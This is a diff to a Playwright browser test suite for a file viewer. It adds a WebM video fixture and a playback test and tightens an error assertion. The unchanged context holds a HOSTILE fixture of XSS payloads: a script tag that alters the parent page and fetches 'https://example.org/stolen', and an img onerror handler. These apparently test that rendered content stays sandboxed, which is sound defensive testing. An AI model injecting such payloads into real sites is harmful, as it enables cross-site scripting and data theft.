@@ -25,6 +25,8 @@ expect = sync_api.expect
 pytestmark = in_browser
 
 FIXTURES = Path(__file__).parents[2] / "ui/src/core/parquet/fixtures"
+# Three colours on 16 by 16 pixels, VP8, recorded by a browser: MediaRecorder on the stream of a canvas.
+FILM = Path(__file__).with_name("film.webm")
 HOSTILE = """
 <script>parent.document.title = 'taken'; fetch('https://example.org/stolen')</script>
 <img src="x" onerror="parent.document.title = 'taken'">
@@ -116,6 +118,7 @@ def files(run: str) -> dict[str, bytes]:
             "plots/bad.png": b"no picture",
             "doc.pdf": small_pdf(),
             "tone.wav": tone(),
+            "film.webm": FILM.read_bytes(),
             "bundle.zip": archive(),
             "array.npy": array(),
             "weights.bin": bytes(range(256)),
@@ -171,8 +174,7 @@ def test_code_has_numbers_of_lines_colours_and_wraps(watched: Watched, run: dict
     page.get_by_role("button", name="Show more").click()
     expect(page.locator(".code-line").last).to_have_attribute("data-n", "100000")
     expect(page.locator(".more-of")).to_have_count(0)
-    # The browser itself reports that of an empty file no part can be had.
-    assert ([error for error in watched.errors if "416" not in error], watched.strangers) == ([], [])
+    assert (watched.errors, watched.strangers) == ([], [])
 
 
 def test_json_is_a_tree_that_opens_and_keeps_every_digit(watched: Watched, run: dict[str, str]) -> None:
@@ -286,6 +288,10 @@ def test_documents_and_sound_are_shown_by_the_browser(watched: Watched, run: dic
     expect(page.locator("audio")).to_have_js_property("duration", 1)
     page.locator("audio").evaluate("sound => { sound.currentTime = 0.5; }")
     expect(page.locator("audio")).to_have_js_property("currentTime", 0.5)
+    page.get_by_role("treeitem", name="film.webm").click()
+    expect(page.locator("video")).to_have_js_property("videoWidth", 16)
+    page.locator("video").evaluate("film => { film.muted = true; return film.play(); }")
+    expect(page.locator("video")).to_have_js_property("ended", True)
     # The browser's viewer is an extension that it brings.
     assert [url for url in watched.strangers if not url.startswith("chrome")] == []
 
